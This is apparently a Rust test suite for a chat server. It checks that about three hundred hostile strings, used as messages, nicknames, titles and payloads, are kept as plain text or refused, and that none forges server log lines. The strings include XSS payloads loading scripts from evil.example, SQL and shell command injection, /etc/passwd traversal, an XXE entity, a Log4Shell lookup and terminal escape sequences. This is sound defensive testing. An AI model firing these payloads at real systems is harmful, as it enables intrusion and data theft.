//! Three hundred texts that were written to do harm: as messages, nicknames, titles and payloads they are kept as text or refused
//! by name, on every road, and what the server logs meanwhile is one line each.

use std::{collections::BTreeSet, net::SocketAddr};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
};
use tonic::Code;
use trivium_client::{
    Client, Rejection, Road, Session,
    proto::v1::{
        BroadcastRequest, ListMessagesRequest, RoomKind, UpdateMemberRequest, UpdateRoomRequest, room_event::Event,
    },
};
use trivium_tests::{Process, Server, game::id};

use crate::common::{guests, hosted, log, look, on_every_road, rejected};

/// Longest message, in characters.
const MAX_TEXT: usize = 4_000;

const SCRIPTS: [&str; 40] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<details open ontoggle=alert(1)>",
    "<style>@import'//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=x>",
    "<object data=x></object><embed src=x>",
    "<template><script>alert(1)</script></template>",
    "\"><script>alert(1)</script>",
    "'-alert(1)-'",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003e",
    "＜script＞alert(1)＜/script＞",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{7*7} <%= 7*7 %> {{7*7}}",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/?q=\" onerror=\"alert(1))",
    "[x](https://a.example \"</a><script>alert(1)</script>\")",
    "<https://a.example\"onmouseover=alert(1)>",
    "`<script>`alert(1)`</script>`",
    "| a | <b onmouseover=alert(1)> |\n|---|---|",
    "__proto__",
    "{\"__proto__\": {\"admin\": true}}",
];

const INJECTIONS: [&str; 30] = [
    "'; DROP TABLE rooms; --",
    "' OR '1'='1",
    "1; ATTACH DATABASE '/tmp/x' AS x",
    "\" OR 1=1 --",
    "%s%s%s%n",
    "%00",
    "{0}{1}{}",
    "$(reboot) `reboot` ; reboot",
    "| tee /tmp/x && true",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "file:///etc/passwd",
    "${jndi:ldap://evil.example/x}",
    "=HYPERLINK(\"http://evil.example\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1|cmd",
    "*)(uid=*))(|(uid=*",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
    "null",
    "undefined",
    "NaN",
    "true",
    "-9223372036854775809",
    "1e999",
    "\\ud800",
    "\\x00\\r\\n",
    "data:text/html,<script>alert(1)</script>",
    "javascript:alert(1)",
    "NEAR(a b) OR c* AND NOT \"d",
    "@@@@@@@@ @room @everyone @here",
];

/// What terminals and logs obey.
const SEQUENCES: [&str; 20] = [
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}[31mred\u{1b}[0m",
    "\u{1b}]0;title\u{7}",
    "\u{1b}]8;;http://evil.example\u{1b}\\x\u{1b}]8;;\u{1b}\\",
    "\u{1b}]52;c;eA==\u{7}",
    "\u{1b}P+q\u{1b}\\",
    "\u{1b}c",
    "\u{1b}[6n",
    "\u{9b}31mred",
    "\u{9d}0;title\u{9c}",
    "a\r\nb",
    "a\rb",
    "a\n\n\nb",
    "\r\n2026-01-01T00:00:00Z  INFO forged: all is well",
    "x\n{\"level\":\"INFO\",\"message\":\"forged\"}",
    "x\u{85}y\u{2028}z\u{2029}",
    "x\u{b}y\u{c}z",
    "\u{8}\u{8}\u{8}over",
    "a\0b",
    "x\u{1a}\u{4}",
];

/// A text, and whether it has to come through as it is.
struct Hostile {
    text: String,
    verbatim: bool,
}

fn texts() -> Vec<Hostile> {
    let mut texts: Vec<Hostile> = Vec::new();
    let mut add = |text: String, verbatim| texts.push(Hostile { text, verbatim });
    for text in SCRIPTS.iter().chain(&INJECTIONS) {
        add((*text).to_owned(), true);
    }
    for text in SEQUENCES {
        add(text.to_owned(), false);
    }
    // Every control character, alone among letters.
    for c in (0..0x20_u8).chain(0x7f..=0x9f).map(char::from) {
        add(format!("a{c}b"), matches!(c, '\n' | '\t'));
    }
    // What turns, hides, joins or is nothing.
    for c in [
        '\u{ad}',
        '\u{34f}',
        '\u{61c}',
        '\u{180e}',
        '\u{200b}',
        '\u{200c}',
        '\u{200d}',
        '\u{200e}',
        '\u{200f}',
        '\u{202a}',
        '\u{202b}',
        '\u{202c}',
        '\u{202d}',
        '\u{202e}',
        '\u{2060}',
        '\u{2066}',
        '\u{2067}',
        '\u{2068}',
        '\u{2069}',
        '\u{206a}',
        '\u{2800}',
        '\u{3164}',
        '\u{fe0f}',
        '\u{feff}',
        '\u{fff9}',
        '\u{fffc}',
        '\u{fffd}',
        '\u{fffe}',
        '\u{1d173}',
        '\u{e0001}',
        '\u{e0041}',
        '\u{10ffff}',
        '\u{e000}',
    ] {
        add(format!("user{c}gpj.exe"), true);
        add(format!("{c}{c}evil{c}"), true);
        add(c.to_string().repeat(50), false);
    }
    // Marks that paint over their neighbours.
    for marks in [
        "\u{300}",
        "\u{36f}",
        "\u{489}",
        "\u{20dd}",
        "\u{1ab0}",
        "\u{300}\u{315}\u{327}\u{36f}",
        "\u{0e49}\u{0e4a}",
    ] {
        for count in [1, 40, 900] {
            add(format!("Z{}", marks.repeat(count)), true);
        }
    }
    add("\u{301}".repeat(30), false);
    // Sizes.
    for letter in ["x", "ß", "𝕏", "\u{fdfa}", "\u{200d}", "@"] {
        for length in [39, 41, 3_999, 4_000, 4_001, 9_000] {
            add(letter.repeat(length), letter != "\u{200d}" && length <= MAX_TEXT);
        }
    }
    for text in [
        "",
        " ",
        "\n\n",
        "\u{3000}\u{2003}",
        "👩‍👩‍👧‍👦🏴󠁧󠁢󠁷󠁬󠁳󠁿🇩🇪1️⃣",
        "السلام عليكم hello שלום",
        "ﷺ﷽𒐫꧅",
    ] {
        add(text.to_owned(), text.chars().any(|c| !c.is_whitespace()));
    }
    texts
}

/// A text as it may be kept: nothing of it is changed but for control characters and white space at its end.
fn kept(text: &str) -> String {
    let kept: String = text
        .chars()
        .filter(|c| !c.is_control() || matches!(c, '\n' | '\t'))
        .collect();
    kept.trim_end().to_owned()
}

/// Refusals that a text may meet.
fn assert_refused(text: &str, rejection: &Rejection, reasons: &[&str]) {
    let known = rejection.code == Code::InvalidArgument && reasons.contains(&rejection.reason.as_str());
    assert!(known, "{text:?}: {rejection:?}");
    assert!(!rejection.message.chars().any(char::is_control), "{rejection:?}");
}

fn is_one_line(text: &str) -> bool {
    !text.chars().any(char::is_control)
}

async fn broadcast(session: &Session, room: &str, payload: &str) -> Result<(), Rejection> {
    let request = BroadcastRequest {
        request_id: id(),
        room_id: room.to_owned(),
        event: "hostile".to_owned(),
        payload_json: payload.to_owned(),
    };
    let sent = session.execute(request).await;
    sent.map(drop).map_err(|error| rejected::<()>(Err(error)))
}

async fn title(session: &Session, room: &str, title: &str) -> Result<(), Rejection> {
    let request = UpdateRoomRequest {
        request_id: id(),
        room_id: room.to_owned(),
        title: Some(title.to_owned()),
        ..UpdateRoomRequest::default()
    };
    let updated = session.execute(request).await;
    updated.map(drop).map_err(|error| rejected::<()>(Err(error)))
}

async fn nickname(session: &Session, room: &str, user: &str, nickname: &str) -> Result<(), Rejection> {
    let request = UpdateMemberRequest {
        request_id: id(),
        room_id: room.to_owned(),
        user_id: user.to_owned(),
        nickname: Some(nickname.to_owned()),
        ..UpdateMemberRequest::default()
    };
    let updated = session.execute(request).await;
    updated.map(drop).map_err(|error| rejected::<()>(Err(error)))
}

/// Tells of a breach as a browser does, at a page and in a file of that name.
async fn report(server: SocketAddr, text: &str) {
    let report = serde_json::json!({ "document-uri": text, "blocked-uri": text, "source-file": text });
    let body = serde_json::json!({ "csp-report": report }).to_string();
    let request = format!(
        "POST /csp-report HTTP/1.1\r\nhost: localhost\r\nconnection: close\r\ncontent-length: {}\r\n\r\n{body}",
        body.len()
    );
    let mut stream = TcpStream::connect(server).await.expect("it listens");
    stream.write_all(request.as_bytes()).await.expect("it reads");
    let mut answer = String::new();
    stream.read_to_string(&mut answer).await.expect("it answers");
    assert!(answer.starts_with("HTTP/1.1 204 "), "{text:?}: {answer}");
}

#[test]
fn there_are_three_hundred_of_them() {
    let texts = texts();
    let different: BTreeSet<&str> = texts.iter().map(|hostile| hostile.text.as_str()).collect();
    assert!(different.len() >= 300, "{}", different.len());
    assert!(texts.iter().filter(|hostile| hostile.verbatim).count() >= 150);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_messages_and_payloads_are_text_or_refused() {
    on_every_road(async |way| {
        let server = Server::start().await;
        let (mut host, room) = hosted(&server, way).await;
        let [mut ana] = guests(&server, way, &room, ["Ana"]).await;
        let room = room.id;
        let (mut said, mut sent) = (Vec::new(), Vec::new());
        for Hostile { text, verbatim } in texts() {
            // Whoever does not read what it hears is not answered either.
            host.drain();
            ana.drain();
            match host.session.send_message(&room, text.as_str()).await {
                Ok(message) => {
                    let expected = if verbatim { text.clone() } else { kept(&text) };
                    assert_eq!(message.text, expected);
                    said.push((message.seq, expected));
                }
                Err(error) => {
                    assert!(!verbatim, "{text:?}: {error}");
                    assert_refused(&text, &rejected::<()>(Err(error)), &["INVALID_REQUEST", "TEXT_INVALID"]);
                }
            }
            let payload = serde_json::to_string(&text).expect("a string");
            broadcast(&host.session, &room, &payload).await.expect("JSON");
            sent.push(payload);
            if serde_json::from_str::<serde_json::Value>(&text).is_err() {
                let refused = broadcast(&host.session, &room, &text).await.expect_err("no JSON");
                assert_refused(&text, &refused, &["INVALID_REQUEST"]);
            }
        }
        assert!(said.len() >= 200, "{}", said.len());
        // Heard, listed and read from the log, they are the same.
        ana.reach(look(&ana.client, &room).await.cursor.expect("one").seq).await;
        let heard = |events: &[trivium_client::proto::v1::RoomEvent]| {
            let messages = events.iter().filter_map(|event| match &event.event {
                Some(Event::MessageSent(sent)) => sent.message.as_ref().map(|one| (one.seq, one.text.clone())),
                _ => None,
            });
            let payloads = events.iter().filter_map(|event| match &event.event {
                Some(Event::BroadcastSent(sent)) => Some(sent.payload_json.clone()),
                _ => None,
            });
            (messages.collect::<Vec<_>>(), payloads.collect::<Vec<_>>())
        };
        let expected = (said.clone(), sent);
        assert!(heard(&ana.seen) == expected);
        assert!(heard(&log(&ana.client, &room, 100).await) == expected);
        let mut listed = Vec::new();
        let mut after_seq = 1;
        loop {
            let request = ListMessagesRequest {
                room_id: room.clone(),
                after_seq,
                page_size: 100,
                ..ListMessagesRequest::default()
            };
            let page = ana.session.execute(request).await.expect("a member");
            after_seq = page.messages.last().map_or(after_seq, |last| last.seq);
            listed.extend(page.messages.into_iter().map(|one| (one.seq, one.text)));
            if !page.more_after {
                break;
            }
        }
        assert!(listed == said);
        server.stop().await;
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_names_and_titles_are_one_short_line_or_refused() {
    on_every_road(async |way| {
        let server = Server::start().await;
        let (mut host, room) = hosted(&server, way).await;
        let [mut ana] = guests(&server, way, &room, ["Ana"]).await;
        let room = room.id;
        let user = look(&ana.client, &room).await.me.expect("a member").user_id;
        let mut taken = 0;
        for Hostile { text, .. } in texts() {
            host.drain();
            ana.drain();
            match title(&host.session, &room, &text).await {
                Ok(()) => {}
                Err(refused) => assert_refused(&text, &refused, &["INVALID_REQUEST", "TEXT_INVALID"]),
            }
            match nickname(&ana.session, &room, &user, &text).await {
                Ok(()) => taken += 1,
                Err(refused) => assert_refused(&text, &refused, &["INVALID_REQUEST", "NICKNAME_INVALID"]),
            }
            let seen = look(&ana.client, &room).await;
            let (title, name) = (seen.room.expect("one").title, seen.me.expect("a member").nickname);
            assert!(
                is_one_line(&title) && title.chars().count() <= 120,
                "{text:?} as {title:?}"
            );
            assert!(is_one_line(&name) && name.chars().count() <= 40, "{text:?} as {name:?}");
            let turns =
                |c: char| matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}');
            assert!(!name.contains(turns), "{text:?} as {name:?}");
        }
        assert!(taken >= 100, "{taken}");
        server.stop().await;
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_texts_forge_no_line_of_the_servers_log() {
    for format in ["pretty", "json"] {
        let data = tempfile::tempdir().expect("a directory");
        // Whatever speaks of requests, in all its words; the rest would be a line for each byte.
        let filter = "debug,trivium=trace,tower=trace,sqlx=trace,h2=info,hyper=info";
        let configuration = [("log.filter", filter), ("log.format", format)];
        let binary = env!("CARGO_BIN_EXE_trivium-under-test");
        let mut process = Process::start(binary, data.path(), &configuration).await;
        let client = Client::builder(process.url())
            .token(process.token("host"))
            .road(Road::Grpc);
        let (session, _events) = client.build().expect("a client").connect().await.expect("connected");
        let room = session
            .create_room(RoomKind::Classroom, "A room")
            .await
            .expect("a room")
            .id;
        for Hostile { text, .. } in texts() {
            // Whether it is refused does not matter here.
            let _said = session.send_message(&room, text.as_str()).await;
            let _sent = broadcast(&session, &room, &text).await;
            let _titled = title(&session, &room, &text).await;
            let _named = nickname(&session, &room, "host", &text).await;
            let _joined = session.join(text.as_str(), text.as_str()).await;
        }
        session.close().await;
        // What browsers report is logged with their words in it, the first ten of it.
        for text in &SEQUENCES[8..18] {
            report(process.address(), text).await;
        }
        process.terminate().await;
        let log = process.log();
        let reports = log.lines().filter(|line| line.contains("content security policy"));
        assert_eq!(reports.count(), 10, "a line for each");
        for line in log.lines() {
            assert!(is_one_line(line), "{line:?}");
            let begins = if format == "json" {
                serde_json::from_str::<serde_json::Value>(line).is_ok_and(|line| line.is_object())
            } else {
                line.starts_with("20") && line.contains('Z')
            };
            assert!(begins, "no line of its own: {line:?}");
            assert!(!line.starts_with("2026-01-01T00:00:00Z"), "forged: {line:?}");
        }
    }
}
